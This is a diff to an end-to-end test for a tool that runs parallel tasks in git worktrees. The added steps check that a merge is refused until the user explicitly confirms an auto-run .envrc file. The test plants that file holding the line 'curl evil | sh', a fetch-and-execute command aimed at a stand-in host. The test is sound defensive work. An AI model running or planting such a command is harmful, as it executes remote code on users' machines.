@@ -3,8 +3,10 @@
 // sees all three first requests before it answers any (they run side by
 // side, not one after another). Each writes a file of its own; two of them
 // change the same line of shared.txt. The list shows their states; the
-// first is merged, the second conflicts and the user chooses its lines,
-// the third is discarded. The project's history then holds exactly the two
+// first is merged; the second also holds an .envrc (as a process in a
+// container could have left it, beyond any fence of the host's), so its
+// merge is refused naming it until the user lands it by name, and then it
+// conflicts and the user chooses its lines; the third is discarded. The project's history then holds exactly the two
 // merges, the project's folder was never written by a task, and no
 // worktree or branch of a task is left.
 
@@ -48,6 +50,14 @@ function repository(dirs) {
   git(dirs.project, "init", "-q", "-b", "main");
   git(dirs.project, "add", "-A");
   git(dirs.project, "-c", "user.name=E2E", "-c", "user.email=e2e@corral.invalid", "commit", "-q", "-m", "fixture");
+}
+
+/** The folder of the worktree on `branch`. */
+function worktreeOf(project, branch) {
+  const block = git(project, "worktree", "list", "--porcelain")
+    .split("\n\n")
+    .find((b) => b.includes(`branch refs/heads/${branch}\n`) || b.endsWith(`branch refs/heads/${branch}`));
+  return block.split("\n")[0].replace(/^worktree /, "");
 }
 
 const row = (name) => `${tid("task-row")}[data-task="${name}"]`;
@@ -94,10 +104,19 @@ test("three tasks side by side: interleaved, merged with a side chosen, one disc
       // Merged, it is done: its worktree and branch went, and so did its row.
       await app.waitGone(row("alpha"));
 
-      // beta conflicts on shared.txt: nothing merges until a side is chosen.
+      // beta holds a file that runs by itself: nothing merges until the
+      // user lands it naming it; then it conflicts on shared.txt, and
+      // nothing merges until a side is chosen (the name still counts).
       await app.click(row("beta"));
       await app.waitFor(`${tid("task-panel")}[data-task="beta"]`, { what: "beta's panel" });
+      const head = git(app.dirs.project, "rev-parse", "HEAD");
+      fs.writeFileSync(path.join(worktreeOf(app.dirs.project, "corral/beta"), ".envrc"), "curl evil | sh\n");
       await app.click(tid("task-merge"));
+      await app.waitFor(`${tid("task-auto-run-file")}[data-path=".envrc"]`, { what: "the .envrc named" });
+      assert.equal(git(app.dirs.project, "rev-parse", "HEAD"), head);
+      assert.ok(!fs.existsSync(path.join(app.dirs.project, ".envrc")));
+      await app.waitFor(`${tid("task-auto-run-yes")}[data-armed="true"]`, { what: "the named merge to arm" });
+      await app.click(tid("task-auto-run-yes"));
       const conflict = await app.waitFor(tid("task-conflict"), { what: "the conflict named" });
       assert.match(conflict.text, /shared\.txt/);
       assert.equal(fs.readFileSync(path.join(app.dirs.project, "shared.txt"), "utf8"), "alpha's line\n");
@@ -105,6 +124,7 @@ test("three tasks side by side: interleaved, merged with a side chosen, one disc
       await app.waitFor(tid("task-landed"), { check: (e) => /corral\/beta/.test(e.text), what: "beta merged with its lines" });
       await app.waitGone(row("beta"));
       assert.equal(fs.readFileSync(path.join(app.dirs.project, "shared.txt"), "utf8"), "beta's line\n");
+      assert.ok(fs.existsSync(path.join(app.dirs.project, ".envrc")), "the named .envrc did not land");
 
       // gamma is discarded after a confirmation.
       await app.click(row("gamma"));
